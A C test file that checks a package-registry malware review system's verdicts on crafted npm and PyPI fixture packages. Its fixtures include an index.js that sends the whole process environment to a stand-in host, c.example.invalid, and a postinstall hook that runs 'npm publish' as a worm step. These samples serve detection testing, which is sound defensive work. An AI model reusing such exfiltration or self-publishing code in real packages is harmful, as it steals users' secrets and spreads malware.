/* test_review_council.c: the whole council and the consensus together, on
 * the shapes of bench-council: one high-confidence finding (exfiltration,
 * decode-exec, download-exec, worm) rejects; one strong signal (a
 * typosquat, a URL dependency) flags; what popular packages do (esbuild:
 * an install script that runs a binary with a copy of the environment;
 * pip: credentials named next to network code) is approved; and every
 * real package of the fixture registry is approved. */
#include "review_fixture.h"
#include "registry/consensus.h"
#include "tap.h"

static int verdict_is(const char *eco, const char *name, const char *const *pairs, const char *want, const char *code)
{
	fixture f;
	fixture_crafted(&f, eco, name, pairs);
	review_findings fs = { 0 };
	review_run_council(&fs, &f.pkg);
	consensus c;
	consensus_decide(&c, &fs);
	int good = !strcmp(c.verdict, want) && (!code || (c.decisive && !strcmp(c.decisive->code, code)));
	if (!good)
		printf("# %s: %s (%s)\n", name, c.verdict, c.why ? c.why : "-");
	consensus_dispose(&c);
	review_findings_dispose(&fs);
	fixture_dispose(&f);
	return good;
}

int main(void)
{
	const char *exfil[] = { "package.json", "{\"name\":\"env-lite\",\"description\":\"d\"}",
	                        "index.js", "const https = require('https');\nconst d = JSON.stringify(process.env);\n"
	                                    "https.request({ hostname: 'c.example.invalid' }).end(d);\n", NULL };
	ok(verdict_is("npm", "env-lite", exfil, "REJECTED", "exfiltration"), "the environment sent: REJECTED by exfiltration");
	const char *worm[] = { "package.json", "{\"name\":\"w\",\"description\":\"d\",\"scripts\":{\"postinstall\":\"node b.js\"}}",
	                       "b.js", "require('child_process').execSync('npm publish');\n", NULL };
	ok(verdict_is("npm", "w-pkg", worm, "REJECTED", NULL), "npm publish from a postinstall: REJECTED");
	const char *squat[] = { "package.json", "{\"name\":\"lodahs\",\"description\":\"d\"}", "index.js", "module.exports = {};\n", NULL };
	ok(verdict_is("npm", "lodahs", squat, "FLAGGED", "typosquat"), "a typosquat with harmless code: FLAGGED");
	const char *urldep[] = { "package.json", "{\"name\":\"u\",\"description\":\"d\",\"dependencies\":{\"h\":\"http://127.0.0.1/h.tgz\"}}", NULL };
	ok(verdict_is("npm", "u-pkg", urldep, "FLAGGED", "url-dependency"), "an http: dependency: FLAGGED");
	const char *esbuild[] = { "package.json", "{\"name\":\"eb\",\"description\":\"d\",\"scripts\":{\"postinstall\":\"node install.js\"}}",
	                          "install.js", "const child_process = require('child_process');\nconst https = require('https');\n"
	                                        "child_process.execFileSync(bin, ['--version'], { env: { ...process.env, X: '1' } });\n"
	                                        "https.get('https://registry.npmjs.org/x');\n", NULL };
	ok(verdict_is("npm", "eb-pkg", esbuild, "APPROVED", NULL), "an install script running its binary with the environment: APPROVED");
	const char *pip[] = { "pip/upload.py", "import os\nfrom urllib.request import urlopen\n"
	                                       "RC = os.path.join(os.path.expanduser('~'), '.pypirc')\n"
	                                       "def get(url):\n    return urlopen(url).read()\n",
	                      "pip/run.py", "import subprocess\nsubprocess.run(['git', 'status'])\n", NULL };
	ok(verdict_is("pypi", "pip", pip, "APPROVED", NULL), "pip: .pypirc named, urlopen and subprocess elsewhere: APPROVED");

	int all = 1;
	for (size_t i = 0; fixture_clean[i]; i++) {
		fixture f;
		if (fixture_real(&f, fixture_clean[i]) != 0) {
			all = 0;
			fixture_dispose(&f);
			continue;
		}
		review_findings fs = { 0 };
		review_run_council(&fs, &f.pkg);
		consensus c;
		consensus_decide(&c, &fs);
		if (strcmp(c.verdict, "APPROVED")) {
			all = 0;
			printf("# %s: %s (%s)\n", fixture_clean[i], c.verdict, c.why ? c.why : "-");
		}
		consensus_dispose(&c);
		review_findings_dispose(&fs);
		fixture_dispose(&f);
	}
	ok(all, "every real package of the fixture registry is APPROVED by the whole council");
	return tap_done();
}
